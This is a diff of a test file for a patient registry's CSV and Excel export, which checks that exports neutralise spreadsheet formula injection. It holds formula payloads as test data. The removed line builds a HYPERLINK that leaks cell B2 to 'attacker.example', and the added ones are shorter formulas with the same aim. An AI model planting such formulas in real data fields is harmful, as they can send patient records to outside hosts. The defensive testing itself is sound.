@@ -28,7 +28,8 @@ from registry.services.datasets import dataset_export
 from tests import factories
 from tests.redcap.client import RedcapClient
 
-HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&B2,"Open")'
+HYPERLINK = '=HYPERLINK("https://x.example/?"&B2,"Open")'  # fits the 50 characters of mrn
+SHORT_FORMULA = '=HYPERLINK("//x.example")'  # fits the 30 characters of var_gene
 
 
 @pytest.mark.parametrize(("text", "shown"), [
@@ -74,7 +75,7 @@ def formula_patient(site_a):
     """A patient whose MRN is a formula, with a variant whose gene is one and whose protein starts with @."""
     patient = factories.make_patient(site_a, "F-1", mrn=HYPERLINK)
     factories.make_variant(
-        factories.make_biopsy(patient), var_gene=HYPERLINK, var_protein="@SUM(A1)", var_vaf=Decimal("12.5"),
+        factories.make_biopsy(patient), var_gene=SHORT_FORMULA, var_protein="@SUM(A1)", var_vaf=Decimal("12.5"),
     )
     return patient
 
@@ -143,7 +144,7 @@ def test_the_admin_variant_csv_quotes_text_columns_and_leaves_numbers(client, ad
     [row] = _rows(_admin_variant_export(client, SpreadsheetCSV).decode("utf-8-sig"))
 
     assert (row["record_id"], row["var_gene"], row["var_protein"], row["var_vaf"], row["var_bx_date"]) == (
-        "F-1", "'" + HYPERLINK, "'@SUM(A1)", "12.5", "2022-01-25",
+        "F-1", "'" + SHORT_FORMULA, "'@SUM(A1)", "12.5", "2022-01-25",
     )
 
 
@@ -155,7 +156,7 @@ def test_the_admin_variant_excel_holds_every_text_as_a_text_cell(client, adminis
     workbook = openpyxl.load_workbook(path)
     [header, row] = [list(cells) for cells in workbook.active.iter_rows()]
     cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
-    assert (cells["var_gene"].value, cells["var_gene"].data_type) == (HYPERLINK, "s")
+    assert (cells["var_gene"].value, cells["var_gene"].data_type) == (SHORT_FORMULA, "s")
     assert (cells["var_protein"].value, cells["var_protein"].data_type) == ("@SUM(A1)", "s")
     assert _formula_cells(workbook) == []
 
